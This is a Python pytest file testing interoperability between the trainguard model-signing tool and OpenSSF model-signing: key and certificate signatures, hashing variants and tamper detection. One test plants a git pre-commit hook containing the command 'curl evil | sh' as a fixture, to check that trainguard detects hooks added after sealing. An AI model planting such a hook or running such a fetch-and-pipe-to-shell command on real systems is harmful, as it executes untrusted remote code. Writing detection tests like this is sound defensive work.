"""Interoperability with OpenSSF model signing (``model-signing`` 1.1.1), both ways.

Key-based signing only: nothing here touches the network.  model-signing's
command line always hashes with sha256 by files, so it can only check our
sha256 "files" signatures; its API (which reads the hashing settings from the
signature) checks the blake3 and shards ones too.
"""

from __future__ import annotations

import datetime
import os
import subprocess
import sys
from pathlib import Path

import pytest

from trainguard.findings import Severity
from trainguard.signing import VerificationError, seal, verify
from trainguard.signing.keys import write_keypair

model_signing = pytest.importorskip("model_signing")


@pytest.fixture(autouse=True)
def private_cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))


@pytest.fixture()
def keys(tmp_path: Path) -> tuple[Path, Path]:
    return write_keypair(tmp_path / "key")


@pytest.fixture()
def model(tmp_path: Path) -> Path:
    root = tmp_path / "model"
    (root / "sub").mkdir(parents=True)
    (root / "config.json").write_text('{"hidden": 64}')
    (root / "sub" / "weights.bin").write_bytes(os.urandom(300_000))
    (root / "sub" / "a.b").write_bytes(b"dot")  # "a.b" < "a/b" as strings, not as paths
    (root / "a").mkdir()
    (root / "a" / "b").write_bytes(b"slash")
    (root / "empty").write_bytes(b"")
    (root / ".gitattributes").write_text("*.bin filter=lfs\n")
    return root


def ms_cli(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "model_signing", *args],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


def ms_verify_api(model: Path, public: Path, signature: Path) -> None:
    model_signing.verifying.Config().use_elliptic_key_verifier(public_key=public).verify(
        model, signature
    )


# -- trainguard seals, model-signing verifies ---------------------------------


def test_model_signing_cli_verifies_our_signature(model: Path, keys: tuple[Path, Path]) -> None:
    sig = seal(model, keys[0]).signature
    done = ms_cli(
        "verify", "key", str(model), "--signature", str(sig), "--public_key", str(keys[1])
    )
    assert done.returncode == 0, done.stderr
    assert "Verification succeeded" in done.stdout
    (model / "sub" / "weights.bin").write_bytes(b"tampered")
    done = ms_cli(
        "verify", "key", str(model), "--signature", str(sig), "--public_key", str(keys[1])
    )
    assert done.returncode != 0 and "Hash mismatch" in done.stderr


def test_model_signing_cli_verifies_our_single_file_signature(
    tmp_path: Path, keys: tuple[Path, Path]
) -> None:
    weights = tmp_path / "w.bin"
    weights.write_bytes(os.urandom(1000))
    sig = seal(weights, keys[0]).signature
    done = ms_cli(
        "verify", "key", str(weights), "--signature", str(sig), "--public_key", str(keys[1])
    )
    assert done.returncode == 0, done.stderr


@pytest.mark.parametrize(
    "options",
    [{"hash": "blake3"}, {"shard_size": 100_000}, {"ignore": ["*.json"]}],
    ids=["blake3", "shards", "pattern"],
)
def test_model_signing_api_verifies_our_variants(
    model: Path, tmp_path: Path, options: dict[str, object]
) -> None:
    private, public = write_keypair(tmp_path / "p384", "ecdsa-p384")
    sig = seal(model, private, **options).signature  # type: ignore[arg-type]
    ms_verify_api(model, public, sig)
    (model / "sub" / "weights.bin").write_bytes(b"tampered")
    with pytest.raises(ValueError, match="mismatch"):
        ms_verify_api(model, public, sig)


def test_model_signing_verifies_a_seal_carrying_release_and_vcs_records(
    model: Path, keys: tuple[Path, Path]
) -> None:
    # name/version/sealed_at/vcs live in predicate.trainguard and the subject name,
    # which model-signing does not read: its CLI and API still verify the bundle.
    (model / ".git" / "hooks").mkdir(parents=True)
    (model / ".git" / "config").write_text("[core]\n\tbare = false\n")
    (model / ".git" / "hooks" / "post-checkout").write_text("#!/bin/sh\n")
    result = seal(model, keys[0], name="llama-3-8b", version="3.1")
    assert result.manifest.info.vcs and ".git/hooks/post-checkout" in result.manifest.info.vcs
    done = ms_cli(
        "verify", "key", str(model), "--signature", str(result.signature),
        "--public_key", str(keys[1]),
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    ms_verify_api(model, keys[1], result.signature)
    verify(model, keys[1], expect_name="llama-3-8b", min_version="3.1")
    # A hook planted after sealing: model-signing cannot see it, trainguard does.
    (model / ".git" / "hooks" / "pre-commit").write_text("curl evil | sh\n")
    with pytest.raises(VerificationError) as err:
        verify(model, keys[1])
    assert [f.rule for f in err.value.findings] == ["TG511"]


# -- model-signing signs, trainguard verifies ---------------------------------


def test_we_verify_model_signing_cli_signature(model: Path, keys: tuple[Path, Path]) -> None:
    sig = model / "model.sig"
    done = ms_cli("sign", "key", str(model), "--signature", str(sig), "--private_key", str(keys[0]))
    assert done.returncode == 0, done.stderr
    result = verify(model, keys[1])
    assert result.files_checked == 5  # .gitattributes and model.sig are ignored
    (model / "sub" / "weights.bin").write_bytes(b"tampered")
    (model / "new.py").write_text("print()")
    with pytest.raises(VerificationError) as err:
        verify(model, keys[1])
    assert sorted(f.rule for f in err.value.findings) == ["TG503", "TG504"]


@pytest.mark.parametrize("method", ["blake3", "shards", "single"])
def test_we_verify_model_signing_api_signatures(
    model: Path, keys: tuple[Path, Path], tmp_path: Path, method: str
) -> None:
    hashing = model_signing.hashing.Config()
    if method == "blake3":
        hashing.use_file_serialization(hashing_algorithm="blake3")
    if method == "shards":
        # model-signing writes shard_size as 100000.0 and then cannot verify
        # its own signature (range() of a float); trainguard accepts it.
        hashing.use_shard_serialization(shard_size=100_000)
    target = model / "sub" / "weights.bin" if method == "single" else model
    sig = tmp_path / "ms.sig"
    config = model_signing.signing.Config().use_elliptic_key_signer(private_key=keys[0])
    config.set_hashing_config(hashing).sign(target, sig)
    verify(target, keys[1], signature=sig)
    with open(model / "sub" / "weights.bin", "r+b") as fh:
        # Flip the byte: the file is random, and writing 0xff left it as it was once in 256.
        fh.seek(150_000)
        byte = fh.read(1)[0]
        fh.seek(150_000)
        fh.write(bytes([byte ^ 0xFF]))
    with pytest.raises(VerificationError) as err:
        verify(target, keys[1], signature=sig)
    (finding,) = [f for f in err.value.findings if f.severity >= Severity.HIGH]
    assert finding.rule == "TG503"
    if method == "shards":
        assert finding.evidence["first_differing_shard"] == "100000:200000"
        # model-signing's shards manifest cannot list the empty file: a low finding.
        (note,) = [f for f in err.value.findings if f.severity < Severity.HIGH]
        assert (note.rule, note.severity, Path(note.file).name) == ("TG504", Severity.LOW, "empty")


def test_we_verify_model_signing_certificate_signature(
    model: Path, keys: tuple[Path, Path], tmp_path: Path
) -> None:
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.x509.oid import NameOID

    from trainguard.signing.keys import load_private_key

    key = load_private_key(keys[0])
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "trainguard test signer")])
    now = datetime.datetime.now(datetime.timezone.utc)
    cert = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now)
        .not_valid_after(now + datetime.timedelta(days=1))
        .add_extension(
            x509.KeyUsage(True, False, False, False, False, False, False, False, False),
            critical=True,
        )
        .sign(key, hashes.SHA256())  # type: ignore[arg-type]
    )
    cert_path = tmp_path / "signer.crt"
    cert_path.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    sig = tmp_path / "cert.sig"
    model_signing.signing.Config().use_certificate_signer(
        private_key=keys[0], signing_certificate=cert_path, certificate_chain=[cert_path]
    ).sign(model, sig)
    # Key pinning: the certificate (or its public key) is the trust anchor.
    verify(model, cert_path, signature=sig)
    verify(model, keys[1], signature=sig)
    other = write_keypair(tmp_path / "other")[1]
    with pytest.raises(VerificationError) as err:
        verify(model, other, signature=sig)
    assert err.value.findings[0].rule == "TG501"
